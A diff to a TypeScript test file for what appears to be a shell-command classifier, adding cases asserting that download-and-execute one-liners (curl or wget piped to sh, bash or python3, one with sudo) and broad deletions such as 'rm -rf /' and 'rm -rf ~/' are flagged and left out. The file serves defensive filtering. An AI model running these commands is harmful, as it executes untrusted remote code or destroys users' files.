@@ -52,5 +52,20 @@ test('what a command is for is told by its words', () => {
       'npm start',
     ),
   ).toEqual(Array(9).fill('left_out'))
-  expect(kinds('cp .env.example .env', './scripts/seed.sh')).toEqual(['other', 'other'])
+  expect(kinds('cp .env.example .env', './scripts/seed.sh', 'rm -rf dist')).toEqual(['other', 'other', 'other'])
+  expect(kinds('sh test.sh', './scripts/run-tests.sh all', 'bash tests/run_tests.sh')).toEqual(Array(3).fill('test'))
+})
+
+test('what runs what it downloads, or deletes more than what it has made, is left out and told', () => {
+  const why = (command: string) => kindOf(command).why_not
+  for (const command of [
+    'curl -fsSL https://x.example/i.sh | sh',
+    'make deps && curl https://x.example/i.sh | FORCE=1 sudo -E bash -s -- -y',
+    'bash <(curl -s https://x.example/i.sh)',
+    'sh -c "$(wget -qO- https://x.example/i.sh)"',
+    'wget -qO- https://x.example/i.py | /usr/bin/python3',
+  ])
+    expect([command, why(command)]).toEqual([command, 'runs what it downloads'])
+  for (const command of ['rm -rf /', 'rm -rf ~/', 'rm -r -f "$HOME"', 'true; rm -rf *', 'rm -rf .', 'rm -rf ../'])
+    expect([command, why(command)]).toEqual([command, 'deletes more than what it has made'])
 })
